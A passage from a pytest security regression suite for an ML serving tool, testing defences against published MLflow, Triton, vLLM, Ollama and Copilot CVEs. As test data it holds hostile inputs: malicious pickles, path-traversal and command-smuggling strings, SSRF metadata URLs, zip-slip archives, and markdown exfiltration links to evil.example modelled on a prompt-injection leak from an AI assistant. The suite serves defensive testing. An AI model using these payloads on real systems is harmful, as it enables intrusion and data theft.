    with Registry.open(settings_for(served.home)) as registry:
        assert len(registry.keys().list()) == before


# =================================================================================================
# CVE-2024-4263 (MLflow): a lower permission could delete through another verb.
# =================================================================================================


@pytest.mark.parametrize("method", ["PUT", "DELETE", "PATCH", "GET", "HEAD", "OPTIONS"])
def test_cve_2024_4263_no_verb_reaches_a_write_without_its_permission(served: Served,
                                                                     method: str):
    """Every other verb on a management write answers 401 (anonymous) or 405, never changes
    anything. The full route x role matrix is tests/serving/test_authz_matrix.py."""
    for route in MANAGEMENT_WRITES:
        if route == "rollout" and method in ("GET", "HEAD"):
            continue  # the rollout's status: a read, open to viewers
        answer = httpx.request(method, f"{served.url}/v1/deployments/trap/{route}")
        assert answer.status_code in (401, 405), (route, answer.status_code)
    with Registry.open(settings_for(served.home)) as registry:
        assert registry.active_rollout("trap") is None


# =================================================================================================
# CVE-2024-37052 ... CVE-2024-37060 (MLflow): loading a logged model unpickled it.
# =================================================================================================


def test_cve_2024_37052_a_malicious_pickle_is_refused_on_every_load_path(served: Served,
                                                                         tmp_path: Path):
    """From a file, a folder, the registry, and in the server when a new revision points at
    it (the path a deploy, rollout or rollback takes): the scanner refuses the pickle before
    any loader, and the server keeps serving the revision it had."""
    from shipyard.bundle.scan import load_pickle

    marker = tmp_path / "loaded"
    for protocol in (0, 1, 2, 4, 5):
        single = tmp_path / f"p{protocol}.pkl"
        single.write_bytes(evil_pickle(marker, protocol))
        with pytest.raises(UnsafeArtifactError):
            load_pickle(single)
    folder = make_bundle_dir(tmp_path / "bundle", "evil", {"model/model.pkl": evil_pickle(marker)})
    with pytest.raises(UnsafeArtifactError):
        shipyard.load(folder, settings=settings_for(tmp_path / "home"))
    with pytest.raises(UnsafeArtifactError):
        shipyard.load(EVIL_VERSION, settings=settings_for(served.home))
    assert not marker.exists()

    def failed() -> dict[str, str]:
        found: dict[str, str] = httpx.get(f"{served.url}/readyz").json()["failed"]
        return found

    with Registry.open(settings_for(served.home)) as registry:
        registry.deploy("trap", {"variants": [{"name": "champion", "model": EVIL_VERSION}]},
                        reason="threat tests: an unsafe version")
        try:
            assert eventually(lambda: "trap" in failed())
            assert "allowlist" in failed()["trap"]
            answer = predict(served, {"inputs": [ROW]}, name="trap")
            assert answer.status_code == 200 and answer.headers["x-model-version"] == "1.0.0"
        finally:
            registry.deploy("trap", {"variants": [{"name": "champion",
                                                   "model": "tumours:1.0.0"}]},
                            reason="threat tests: back")
    assert eventually(lambda: httpx.get(f"{served.url}/readyz").status_code == 200)
    assert "pickle-at-load" not in [p.name for p in served.sprung()]


def test_cve_2024_37052_trusted_keys_refuse_an_unsigned_bundle(served: Served, tmp_path: Path):
    """With trusted keys configured, every load needs a valid signature as well."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ed25519

    pem = tmp_path / "trusted.pem"
    pem.write_bytes(ed25519.Ed25519PrivateKey.generate().public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    settings = settings_for(served.home, trusted_keys=[pem])
    with pytest.raises(ShipyardError, match="(?i)sign"):
        shipyard.load("tumours:1.0.0", settings=settings)


# =================================================================================================
# CVE-2024-37061 (MLflow): MLproject executed an unfiltered command from the package.
# =================================================================================================


def test_cve_2024_37061_a_package_carries_no_command(tmp_path: Path):
    """Packages are data: the manifest has no field for a command (unknown fields are
    refused), and code entry points name `module:attribute` inside the bundle's own code/
    folder, never a module from the environment."""
    from shipyard.runtimes.code import import_entry

    marker = tmp_path / "ran"
    root = make_bundle_dir(tmp_path / "bundle", "cmd", {"model/weights.bin": b"w"},
                           kind="python")
    text = (root / MANIFEST_NAME).read_text()
    for extra in (f"entry_points:\n  main:\n    command: touch {marker}\n",
                  f"command: touch {marker}\n", f"hooks:\n  post_load: touch {marker}\n"):
        with pytest.raises(ManifestError):
            Manifest.from_text(text + extra)
    for entry in ("os:system", "subprocess:run", "builtins:eval", f"x:y; touch {marker}",
                  "../code:x", "code.os:system"):
        with pytest.raises((BundleError, ManifestError)):
            import_entry(root, entry)
    assert not marker.exists()


# =================================================================================================
# GHSA-5cvj-7rg6-jggj (MLflow): a model name became a directory path (traversal -> RCE).
# =================================================================================================

BAD_NAMES = ["../x", "..", ".", "a/b", "a\\b", "x/../y", "\uff41\uff42\uff43", "café", "tumours\n",
             "Tumours", "-x", "_x", ".x", "x" * 65, "", "x\x00", "x y", "x%2f..", "x:y", "x@y",
             "\u0130", "\u202ex"]


@pytest.mark.parametrize("name", BAD_NAMES)
def test_ghsa_5cvj_7rg6_jggj_names_that_could_be_paths_are_refused(served: Served, name: str):
    """Model, version-alias and deployment names match ^[a-z0-9][a-z0-9._-]{0,63}$ in the
    manifest, the reference parser and every registry call that takes a name."""
    with pytest.raises(BadReferenceError):
        check_name(name)
    with pytest.raises(ValueError):
        Manifest(name=name, version="1", owner=Owner(name="E", contact="e@x.io"),
                 runtime=RuntimeSpec(kind="python"))
    with Registry.open(settings_for(served.home)) as registry:
        for call in (lambda: registry.deploy(name, {"variants": [{"name": "c",
                                                                  "model": "tumours:1.0.0"}]}),
                     lambda: registry.versions(name), lambda: registry.revisions(name),
                     lambda: registry.set_alias("tumours", name, "1.0.0")):
            with pytest.raises(BadReferenceError):
                call()


def test_ghsa_5cvj_7rg6_jggj_the_cli_and_the_server_refuse_them_too(served: Served):
    for name in ("../x", "a/b", "\uff54\uff55\uff4d\uff4f\uff55\uff52\uff53"):
        refused = subprocess.run(
            [sys.executable, "-m", "shipyard.cli", "--home", str(served.home), "deploy", name,
             "--model", "tumours:1.0.0"], capture_output=True, text=True, timeout=60)
        assert refused.returncode == 2, refused.stderr
    for path in ("/v1/deployments/..%2f..%2fetc/predict", "/v2/models/..%2ftumours/infer",
                 "/v2/models/%EF%BD%94umours/infer"):
        status, _ = raw_request(served.port, "POST", path,
                                headers={"Content-Type": "application/json"}, body=b"{}")
        assert status == 404, path


# =================================================================================================
# CVE-2024-0087 (Triton): a logging API set `log_file` to any path (append -> RCE).
# =================================================================================================


def test_cve_2024_0087_no_api_sets_a_server_file_path(served: Served):
    """No route changes logging or any file path; settings are read at start and frozen."""
    target = served.trap("log-target")
    for path in ("/v2/logging", "/logging", "/v1/logging", "/v2/trace/setting",
                 "/v2/models/tumours/trace/setting", "/v1/settings", "/v1/config"):
        for method in ("POST", "PUT"):
            answer = httpx.request(method, f"{served.url}{path}", headers=served.as_admin(),
                                   json={"log_file": str(target), "trace_file": str(target),
                                         "log_info": True})
            assert answer.status_code in (404, 405), (path, answer.status_code)
    answer = predict(served, {"inputs": [ROW]}, params={"log_file": str(target)})
    assert answer.status_code == 200
    assert not target.exists()
    settings = Settings.load({"home": served.home}, environ={})
    with pytest.raises((TypeError, ValueError)):
        settings.access_log = True  # type: ignore[misc]
    assert not [n for n in Settings.model_fields if "log_file" in n or "log_path" in n]


# =================================================================================================
# CVE-2024-0088 (Triton), CVE-2025-23319/23320/23334 (Triton Python backend): client-set
# shared-memory offsets read and wrote server memory.
# =================================================================================================


def test_cve_2024_0088_cve_2025_23319_shared_memory_apis_are_off(served: Served):
    for path in ("/v2/systemsharedmemory/status", "/v2/cudasharedmemory/status",
                 "/v2/systemsharedmemory/region/r/register",
                 "/v2/systemsharedmemory/region/r/unregister"):
        answer = httpx.post(f"{served.url}{path}", headers=served.as_admin(),
                            json={"key": "/dev/shm/x", "offset": 2**40, "byte_size": 2**40})
        assert answer.status_code in (404, 405), path
    region = {"shared_memory_region": "r", "shared_memory_offset": 2**40,
              "shared_memory_byte_size": 2**40}
    for where in ("request", "tensor", "output"):
        body: dict[str, Any] = {"inputs": [{"name": "size_band", "datatype": "BYTES",
                                            "shape": [1], "data": ["medium"]}]}
        if where == "request":
            body["parameters"] = region
        elif where == "tensor":
            body["inputs"][0]["parameters"] = region
        else:
            body["outputs"] = [{"name": "label", "parameters": region}]
        answer = httpx.post(f"{served.url}/v2/models/tumours/infer", json=body)
        assert 400 <= answer.status_code < 500, (where, answer.text)


@pytest.mark.parametrize(("size", "header_length"), [
    (2**40, None), (-1, None), (10**30, None), (4, "-5"), (4, "99999999999999999999"),
    (4, "0"), (4, "1e3"), (4, "0x10")])
def test_cve_2024_0088_binary_sizes_and_offsets_are_bounds_checked(served: Served, size: int,
                                                                    header_length: str | None):
    header = json.dumps({"inputs": [{"name": "mean_area", "datatype": "FP64", "shape": [1],
                                     "parameters": {"binary_data_size": size}}]}).encode()
    body = header + b"\x00" * 8
    answer = httpx.post(f"{served.url}/v2/models/tumours/infer", content=body, headers={
        "Content-Type": "application/octet-stream",
        "Inference-Header-Content-Length": header_length or str(len(header))})
    assert 400 <= answer.status_code < 500, answer.text
    assert httpx.get(f"{served.url}/readyz").status_code == 200


# =================================================================================================
# Triton model-name traversal (server#8400, core#500): names read *from configs* became paths.
# =================================================================================================


def test_triton_names_read_from_the_registry_are_checked_before_path_use(served: Served,
                                                                        tmp_path: Path):
    """A digest or a file path read back from the registry database is checked again before
    it becomes a cache folder or a file: a tampered row cannot aim a write elsewhere."""
    with Registry.open(settings_for(served.home)) as registry:
        record = registry.resolve("tumours:1.0.0")
        store = registry.store
    cache = tmp_path / "cache"
    for digest in ("../../escaped", "/tmp/escaped", "a" * 63 + "/", "sha256:" + "a" * 64):
        with pytest.raises(BundleError):
            cached(store, dataclasses.replace(record, digest=digest), cache)
    assert not (tmp_path / "escaped").exists() and not cache.exists()
    with Registry.open(settings_for(served.home)) as registry, \
            pytest.raises(BadReferenceError):
        registry.deploy("trap", {"variants": [{"name": "champion",
                                               "model": "../../tumours:1.0.0"}]})


# =================================================================================================
# CVE-2026-24146, CVE-2026-24173, CVE-2026-24208/24209 (Triton): many requested outputs
# crashed an allocation; an integer overflow in size math; a traversal DoS.
# =================================================================================================


def tensor(shape: list[int], data: list[Any] | None = None,
           name: str = "mean_area") -> dict[str, Any]:
    return {"name": name, "datatype": "FP64", "shape": shape, "data": data or []}


CAPPED_BODIES = {
    "2^24 x 2^24 elements": {"inputs": [tensor([2**24, 2**24])]},
    "2^63 overflow": {"inputs": [tensor([2**63, 2**63, 4])]},
    "2^64 - 1 dimension": {"inputs": [tensor([2**64 - 1])]},
    "product past the cap": {"inputs": [tensor([4096, 4096, 2])]},
    "negative dimension": {"inputs": [tensor([-1, 1])]},
    "33 dimensions": {"inputs": [tensor([1] * 33, [1.0])]},
    "129 inputs": {"inputs": [tensor([1], [1.0], name=f"x{i}") for i in range(129)]},
    "129 outputs": {"inputs": [tensor([1], [1.0])],
                    "outputs": [{"name": f"o{i}"} for i in range(129)]},
    "100k outputs": {"inputs": [tensor([1], [1.0])],
                     "outputs": [{"name": "label"}] * 100_000},
    "repeated outputs": {"inputs": [tensor([1], [1.0])],
                         "outputs": [{"name": "label"}, {"name": "label"}]},
    "unknown output": {"inputs": [tensor([1], [1.0])], "outputs": [{"name": "../../x"}]},
}


@pytest.mark.parametrize("case", sorted(CAPPED_BODIES))
def test_cve_2026_24146_shapes_outputs_and_rows_are_capped(served: Served, case: str):
    """Sizes are checked (overflow-safe, step by step) before anything is allocated: a
    4xx in well under a second, and the server neither grows nor falls over."""
    process = psutil.Process(served.proc.pid)
    before = process.memory_info().rss
    started = time.perf_counter()
    answer = httpx.post(f"{served.url}/v2/models/tumours/infer", json=CAPPED_BODIES[case],
                        timeout=30)
    assert 400 <= answer.status_code < 500, answer.text[:300]
    assert time.perf_counter() - started < 2.0
    assert len(answer.content) < 4096  # the error does not echo the request back
    assert process.memory_info().rss - before < 200 * 2**20
    assert httpx.get(f"{served.url}/readyz").status_code == 200


def test_cve_2026_24146_rows_per_request_are_capped(served: Served):
    answer = predict(served, {"inputs": [ROW] * 1025})
    assert 400 <= answer.status_code < 500
    assert predict(served, {"inputs": [ROW] * 1024}).status_code == 200


# =================================================================================================
# CVE-2025-6242 (vLLM): media URLs in requests were fetched with no host check (SSRF).
# =================================================================================================


def test_cve_2025_6242_urls_in_requests_are_never_fetched(served: Served, canary: Canary):
    """Inputs are data: a URL in any field, header or body goes nowhere (no URL inputs)."""
    url = f"{canary.url}/latest/meta-data"
    predict(served, {"inputs": [{**ROW, "size_band": url}]})
    predict(served, {"inputs": {"image_url": [url]}})
    httpx.post(f"{served.url}/v2/models/tumours/infer", json={"inputs": [
        {"name": "size_band", "datatype": "BYTES", "shape": [1], "data": [url]}],
        "parameters": {"image_url": url, "callback": url}})
    httpx.post(f"{served.url}/v1/deployments/tumours/feedback",
               json={"request_id": "x", "comment": url})
    httpx.post(f"{served.url}/v1/deployments/trap/rollout", headers=served.as_admin(),
               json={"plan": {"strategy": "canary", "model": url, "webhook": url}})
    predict(served, {"inputs": [ROW]}, headers={"X-Forwarded-Host": url, "Referer": url})
    time.sleep(0.3)
    assert canary.connections == 0


@pytest.mark.parametrize("url", ["http://169.254.169.254/jwks", "http://10.0.0.1/jwks",
                                 "http://idp.example/jwks", "file:///etc/passwd",
                                 "ftp://idp.example/jwks", "https://user:pw@idp.example/jwks",
                                 "http://[::ffff:169.254.169.254]/jwks", "gopher://x/",
                                 "http://127.0.0.1.nip.io/jwks", "//idp.example/jwks", "jwks"])
def test_cve_2025_6242_the_jwks_url_is_https_or_loopback(url: str):
    """The one URL shipyard fetches by itself: https, or http to loopback only; no userinfo,
    no redirects (tests/security/test_jwt.py)."""
    from shipyard.security.jwt import JWTConfig

    with pytest.raises(ConfigError):
        JWTConfig.build(issuer="https://idp", audience="sy", jwks_url=url)


def metadata_targets() -> list[Any]:
    from shipyard.monitoring.alerts import WebhookSink
    from shipyard.security.jwt import JWTConfig

    def jwks(url: str) -> None:
        JWTConfig.build(issuer="https://idp", audience="sy", jwks_url=url)

    def webhook(url: str) -> None:
        WebhookSink(url)

    def store(url: str) -> None:
        open_store(url)

    return [pytest.param(jwks, "https://169.254.169.254/jwks", id="jwks-https-metadata"),
            pytest.param(jwks, "https://[fd00:ec2::254]/jwks", id="jwks-https-aws-ipv6"),
            pytest.param(webhook, "http://169.254.169.254/latest/meta-data", id="webhook-ipv4"),
            pytest.param(webhook, "http://[fe80::1]/hook", id="webhook-link-local-ipv6"),
            pytest.param(webhook, "https://metadata.google.internal/x", id="webhook-gcp"),
            pytest.param(store, "http://169.254.169.254/latest", id="store-metadata")]


@pytest.mark.parametrize(("build", "url"), metadata_targets())
def test_cve_2025_6242_configured_urls_refuse_cloud_metadata_addresses(build: Any, url: str):
    with pytest.raises(ConfigError):
        build(url)


# =================================================================================================
# CVE-2024-37032 "Probllama" (Ollama): a digest from the caller was used as a path.
# =================================================================================================

BAD_DIGESTS = ["../../../../etc/passwd", "sha256:" + "a" * 64, "A" * 64, "a" * 63, "a" * 65,
               "a" * 64 + "\n", "\uff10" * 64, "a" * 62 + "/.", "..%2f" + "a" * 59, "",
               "g" * 64, " " + "a" * 63, "a" * 32 + "/" + "a" * 31]


@pytest.mark.parametrize("digest", BAD_DIGESTS)
def test_cve_2024_37032_digests_are_checked_before_any_path_use(digest: str, tmp_path: Path):
    """Digests must be 64 lowercase hex characters, checked before they become a blob key,
    a cache folder or a manifest entry; nothing is created for a bad one."""
    store = LocalStore(tmp_path / "store")
    listing = sorted(tmp_path.rglob("*"))
    source = tmp_path / "src.bin"
    source.write_bytes(b"x")
    with pytest.raises(BundleError):
        check_digest(digest)
    for call in (lambda: store.has(digest, 1), lambda: store.put(source, digest, 1),
                 lambda: store.get(digest, 1, tmp_path / "dest.bin")):
        with pytest.raises(BundleError):
            call()
    with pytest.raises(ValueError):
        FileEntry(path="model/weights.bin", sha256=digest, size=1)
    source.unlink()
    assert sorted(tmp_path.rglob("*")) == listing


# =================================================================================================
# CVE-2024-45436 (Ollama): zip-slip when a model zip was extracted.
# =================================================================================================


def test_cve_2024_45436_nothing_is_extracted_so_a_zip_cannot_slip(tmp_path: Path):
    """shipyard never extracts an archive: bundles are folders whose every file is listed in
    the manifest (a `..` entry is refused), zips are read in memory by the pickle scanner and
    the OSV database reader, and a zip artifact travels as one opaque blob. A zip whose members
    climb out (`../`, absolute) is scanned, pushed, pulled and loaded without writing any of
    them. No module calls extractall, extract or unpack_archive."""
    marker = tmp_path / "pickle-in-zip"
    archive = tmp_path / "slip.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("../../slipped.txt", "escaped")
        zipped.writestr("/tmp/slipped-absolute.txt", "escaped")
        zipped.writestr("model/../../../slipped-nested.txt", "escaped")
    root = make_bundle_dir(tmp_path / "bundle", "slip", {"model/weights.zip":
                                                         archive.read_bytes()}, kind="python")
    settings = settings_for(tmp_path / "home")
    shipyard.check(root)
    shipyard.push(root, settings=settings, allow_fragile=True)
    pulled = shipyard.pull("slip:1", tmp_path / "pulled", settings=settings)
    assert sorted(p.name for p in pulled.rglob("*") if p.is_file()) == [MANIFEST_NAME,
                                                                        "weights.zip"]
    with pytest.raises(ShipyardError):
        shipyard.load(pulled, settings=settings)  # a python bundle with no code to run
    from shipyard.depaudit import database as osv

    database = tmp_path / "PyPI.zip"
    with zipfile.ZipFile(database, "w") as zipped:
        zipped.writestr("../../slipped-osv.json", json.dumps({"id": "X", "affected": []}))
        zipped.writestr("evil.pkl", evil_pickle(marker))
    with contextlib.suppress(Exception):  # whether it indexes or refuses, nothing is written
        osv.load(database)
    for name in ("slipped.txt", "slipped-nested.txt", "slipped-osv.json"):
        assert not list(tmp_path.parent.rglob(name))
    assert not Path("/tmp/slipped-absolute.txt").exists() and not marker.exists()
    with pytest.raises(ValueError):
        FileEntry(path="../slipped.txt", sha256="0" * 64, size=1)
    for path in sorted(SRC.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute):
                assert node.attr not in ("extractall", "unpack_archive"), path
                if node.attr == "extract":
                    pytest.fail(f"{path} calls extract")


# =================================================================================================
# CVE-2025-32711 "EchoLeak" (M365 Copilot): an injected prompt made the model emit a markdown
# image whose URL carried data to the attacker's host.
# =================================================================================================

ALLOWED = "docs.example.com"
LEAKS = [
    "![logo](https://evil.example/p.png?d=ACCOUNT-4411)",
    "![x][ref]\n\n[ref]: https://evil.example/collect?d=ACCOUNT-4411",
    '<img src="https://evil.example/i.png?d=ACCOUNT-4411">',
    "![x](//evil.example/i.png)",
    "![x](HTTPS://EVIL.EXAMPLE/i.png)",
    "[click](https://docs.example.com.evil.example/x)",
    "[click](https://docs.example.com@evil.example/x)",
    "![x](https://docs.example.com/i.png?d=" + "A" * 300 + ")",
    "[x](javascript:fetch('https://evil.example/'+document.cookie))",
    "see https://evil.example/c?d=ACCOUNT-4411 for details",
    "![x](https://evil%2Eexample/i.png)",
    "![x](https://\uff45\uff56\uff49\uff4c.example/i.png)",
]


@pytest.mark.parametrize("text", LEAKS)
def test_cve_2025_32711_exfiltration_urls_are_removed_from_outputs(text: str):
    """The output filter blocks links and images to hosts off the allowlist, data in a query
    even to an allowed host, and the usual disguises; the served text has the URL removed.
    The server applies the same check to every string output of a text model."""
    from shipyard.security.guardrails import Guardrails

    counted: list[str] = []
    guard = Guardrails(allowed_hosts=[ALLOWED], on_violation=counted.append)
    verdict = guard.check_output(f"Here is your summary. {text}")
    assert verdict.action == "block" and "exfiltration" in counted
    assert verdict.text is not None and "[URL REMOVED]" in verdict.text
    shown = unicodedata.normalize("NFKC", unquote(verdict.text)).lower()
    assert "evil" not in shown and "account-4411" not in shown


def test_cve_2025_32711_the_server_filters_text_outputs_the_same_way():
    """A text model's string outputs pass through the deployment's guardrails on the core
    path (serving/guard.py) before the caller sees them; links to allowed hosts stay."""
    import numpy as np

    from shipyard.bundle.manifest import FieldSpec, Schema
    from shipyard.routing import GuardrailsConfig
    from shipyard.serving import guard

    schema = Schema(layout="text", inputs=[FieldSpec(name="text", dtype="string")],
                    outputs=[FieldSpec(name="answer", dtype="string")])
    counted: list[str] = []
    rails = guard.build(GuardrailsConfig(allowed_hosts=[ALLOWED]), schema, counted.append)
    assert rails is not None  # on by default for a model that produces text
    fine = ("See ![diagram](https://docs.example.com/arch.png) and "
            "[the guide](https://docs.example.com/guide).")
    outputs = guard.check_outputs(rails, schema, {"answer": np.array([*LEAKS, fine],
                                                                     dtype=object)})
    answers = [str(a) for a in outputs["answer"]]
    assert answers[-1] == fine
    for answer in answers[:-1]:
        shown = unicodedata.normalize("NFKC", unquote(answer)).lower()
        assert "evil" not in shown and "account-4411" not in shown, answer
    assert counted.count("exfiltration") >= len(LEAKS)
